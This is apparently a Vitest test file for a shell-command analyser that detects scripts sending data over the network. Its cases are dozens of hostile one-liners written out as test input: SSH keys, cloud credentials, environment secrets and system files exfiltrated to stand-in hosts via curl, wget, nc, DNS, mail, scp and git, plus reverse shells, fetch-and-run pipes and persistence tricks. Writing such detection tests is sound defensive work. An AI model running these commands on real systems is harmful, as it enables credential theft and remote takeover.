import { describe, expect, it } from 'vitest';
import { call, type Expected, matches, observeShell, show } from './shell-harness.ts';

/** Script, then calls that must be recorded. */
const cases: readonly (readonly [string, ...Expected[]])[] = [
  // curl: every way to send something.
  [
    'curl -d @$HOME/.ssh/id_rsa https://drop.test/up',
    call('curl', 'net-send', { url: 'https://drop.test/up', body: '<file-ssh' }),
  ],
  ['curl -sSd "$(env)" https://drop.test', call('curl', 'net-send', { body: '<env-all' })],
  ['env | curl --data-binary=@- https://drop.test', call('curl', 'net-send', { body: '<env-all' })],
  ['curl --data-urlencode key@/etc/passwd https://drop.test', call('curl', 'net-send', { body: '<system-files' })],
  ['curl --json "{"t":"$API_TOKEN"}" https://drop.test', call('curl', 'net-send', { body: '<env-secret' })],
  [
    'curl -F "f=@$HOME/.aws/credentials;type=text/plain" https://drop.test',
    call('curl', 'net-send', { body: '<file-cloud' }),
  ],
  ['curl -F "f=</etc/shadow" https://drop.test', call('curl', 'net-send', { body: '<system-files' })],
  [
    'tar cz ~/.ssh | curl -F f=@- https://drop.test',
    call('tar', 'file-read', { path: '~/.ssh' }),
    call('curl', 'net-send', { body: ['<file-ssh:tar'] }),
  ],
  ['cat ~/.npmrc | curl -T - https://drop.test', call('curl', 'net-send', { body: '<file-dev' })],
  ['curl -T ~/.kube/config https://drop.test', call('curl', 'net-send', { body: '<file-cloud' })],
  ['curl -G -d "k=$API_KEY" https://drop.test', call('curl', 'net-send', { query: '<env-secret' })],
  [
    'curl "https://drop.test/?h=$(hostname)&u=$(whoami)"',
    call('curl', 'net-send', { url: ['<host-identity', 'https://drop.test/?h=￼&u=￼'] }),
  ],
  ['curl -u "user:$DB_PASSWORD" https://drop.test', call('curl', 'net-send', { 'auth-header': '<env-secret' })],
  ['curl -A "$GITHUB_TOKEN" https://drop.test', call('curl', 'net-send', { 'user-agent': '<env-secret' })],
  [
    'curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.test/v1',
    call('curl', 'net-send', { 'auth-header': '<env-secret' }),
  ],
  ['curl -H "X-Data: $OPENAI_API_KEY" https://drop.test', call('curl', 'net-send', { header: '<env-secret' })],
  ['curl -b "s=$SESSION_SECRET" https://drop.test', call('curl', 'net-send', { 'auth-header': '<env-secret' })],
  [
    'cat /proc/self/environ | curl -X POST --data-binary @- https://drop.test',
    call('curl', 'net-send', { body: '<env-all' }),
  ],
  [
    'curl -o /tmp/x https://x.test/x',
    call('curl', 'net-send+file-write', { path: '/tmp/x', content: '<remote-content' }),
  ],
  ['curl -sO https://x.test/setup.bin?v=1', call('curl', 'net-send+file-write', { path: 'setup.bin' })],
  [
    'T=$(curl -s http://169.254.169.254/latest/meta-data/iam/); curl -d "$T" https://drop.test',
    call('curl', 'net-send', { body: '<cloud-metadata' }),
  ],
  [
    'printf "url = https://drop.test\\n" | curl -K - -d "$(id)"',
    call('curl', 'net-send', { url: 'https://drop.test', body: '<host-identity' }),
  ],
  // Other HTTP clients.
  ['wget --post-file=$HOME/.netrc https://drop.test', call('wget', 'net-send+file-write', { body: '<file-dev' })],
  ['wget -qO- --post-data="$(env | base64)" https://drop.test', call('wget', 'net-send', { body: '<env-all:base64' })],
  [
    'wget --header="X-Api-Key: $API_KEY" -q https://api.test/a',
    call('wget', 'net-send+file-write', { 'auth-header': '<env-secret', path: 'a' }),
  ],
  [
    'http POST https://drop.test key=$API_KEY',
    call('http', 'net-send', { body: '<env-secret', url: 'https://drop.test' }),
  ],
  [
    'certutil.exe -urlcache -f https://x.test/a.exe C:/a.exe',
    call('certutil', 'net-send+file-write', { url: 'https://x.test/a.exe', path: 'C:/a.exe' }),
  ],
  // Raw sockets.
  [
    'env | base64 | nc evil.test 4444',
    call('nc', 'socket+net-send', { host: 'evil.test', port: '4444', body: '<env-all:base64' }),
  ],
  ['nc -e /bin/sh 203.0.113.9 443', call('nc', 'socket+shell', { command: '/bin/sh' })],
  ['nc -lvp 9001', call('nc', 'net-listen', { port: '9001' })],
  [
    "socat TCP4:203.0.113.9:443 EXEC:'bash -li'",
    call('socat', 'socket+shell', { host: '203.0.113.9', port: '443', command: 'bash -li' }),
  ],
  [
    'cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.9/80',
    call('/dev/tcp', 'socket+net-send', { host: '203.0.113.9', port: '80', body: '<file-ssh' }),
  ],
  ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', call('/dev/tcp', 'socket+shell', { host: '203.0.113.5' })],
  [
    'exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read line; do $line 2>&5 >&5; done',
    call('', 'eval+shell', { code: '<remote-content' }),
  ],
  ['exec 5<>/dev/tcp/203.0.113.9/443; sh <&5 >&5 2>&5', call('/dev/tcp', 'socket+net-send', { host: '203.0.113.9' })],
  [
    'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f',
    call('nc', 'socket+shell', { host: '203.0.113.9' }),
  ],
  [
    'openssl s_client -quiet -connect evil.test:443 < ~/.ssh/id_rsa',
    call('openssl', 'socket+net-send', { host: 'evil.test', body: '<file-ssh' }),
  ],
  // Names, mail, transfers.
  [
    'dig $(cat ~/.ssh/id_rsa | base64 | head -c 60).oast.test',
    call('dig', 'dns', { host: ['<file-ssh:base64', '￼.oast.test'] }),
  ],
  [
    'for c in $(cat /etc/passwd | xxd -p); do nslookup $c.oast.test; done',
    call('nslookup', 'dns', { host: '<system-files:hex' }),
  ],
  ['ping -c 1 "$(whoami).oast.test"', call('ping', 'dns', { host: '<host-identity' })],
  ['dig +short TXT cmd.evil.test | tr -d \\" | sh', call('sh', 'eval+shell', { code: '<remote-content' })],
  [
    'cat ~/.ssh/id_rsa | mail -s keys a@evil.test',
    call('mail', 'email', { recipient: 'a@evil.test', body: '<file-ssh' }),
  ],
  ['mutt -a ~/.aws/credentials -s x a@evil.test', call('mutt', 'email', { body: '<file-cloud' })],
  ['scp ~/.ssh/id_rsa user@203.0.113.5:/tmp/', call('scp', 'net-send', { host: '203.0.113.5', body: '<file-ssh' })],
  ['rsync -a ~/.aws/ evil.test::loot', call('rsync', 'net-send', { host: 'evil.test', body: '<file-cloud' })],
  ['scp user@evil.test:/x /tmp/x; sh /tmp/x', call('sh', 'eval+shell', { code: '<remote-content' })],
  [
    'aws s3 cp ~/.aws/credentials s3://loot-bucket/x',
    call('aws', 'cloud-storage', { url: 's3://loot-bucket/x', body: '<file-cloud' }),
  ],
  ['gsutil -m cp -r ~/.config/gcloud gs://loot/', call('gsutil', 'cloud-storage', { body: '<file-cloud' })],
  ['echo "put $HOME/.ssh/id_rsa" | sftp evil.test', call('sftp', 'net-send', { host: 'evil.test', body: '<file-ssh' })],
  [
    "ssh user@host.test 'curl https://x.test/a | sh'",
    call('ssh', 'spawn+net-send', { host: 'host.test' }),
    call('sh', 'eval+shell', { code: '<remote-content' }),
  ],
  // Code hosts and registries.
  [
    'git remote add x https://evil.test/r.git; git add ~/.ssh/id_rsa; git push x main',
    call('git', 'code-hosting', { url: 'https://evil.test/r.git', body: '<file-ssh' }),
  ],
  [
    'git config --global core.hooksPath /tmp/h',
    call('git config', 'persistence', { name: 'core.hooksPath', content: '/tmp/h' }),
  ],
  ['git -c core.fsmonitor="curl x|sh" status', call('git config', 'persistence', { name: 'core.fsmonitor' })],
  ['gh gist create ~/.aws/credentials --public', call('gh', 'code-hosting', { body: '<file-cloud' })],
  ['gh auth token | curl -d @- https://drop.test', call('curl', 'net-send', { body: '<file-dev' })],
  [
    'gh api -X POST /repos/a/b/issues -f body="$(env)"',
    call('gh', 'code-hosting+net-send', { body: '<env-all', url: 'https://api.github.com/repos/a/b/issues' }),
  ],
  ['npm publish --access public', call('npm', 'publish+spawn')],
  ['python3 -m twine upload dist/*', call('twine', 'publish+spawn')],
  [
    'npm config set registry https://mirror.test/',
    call('npm config', 'persistence', { name: 'registry', url: 'https://mirror.test/' }),
  ],
  [
    'pip install evil --index-url https://idx.test/simple',
    call('pip', 'spawn', { name: 'evil', url: 'https://idx.test/simple' }),
  ],
  ['npx -y some-pkg@latest', call('npx', 'spawn', { name: 'some-pkg@latest' })],
];

describe('shell commands that reach the network', () => {
  it.each(cases.map(([script, ...expected]) => ({ script, expected })))('$script', ({ script, expected }) => {
    const { calls } = observeShell(script);
    for (const one of expected)
      expect(
        calls.some((made) => matches(made, one)),
        `${JSON.stringify(one)}\n${calls.map(show).join('\n')}`,
      ).toBe(true);
  });

  it('sends nothing when nothing is sent', () => {
    const { calls } = observeShell(
      'curl -fsSL https://x.test/a.tgz | tar xz; echo "curl -d @x https://y.test"; curl -o /dev/null https://x.test',
    );
    for (const made of calls.filter(({ api }) => api === 'sh:curl')) expect(made.args.body).toBeUndefined();
    expect(calls.filter(({ api }) => api === 'sh:curl')).toHaveLength(2);
  });
});
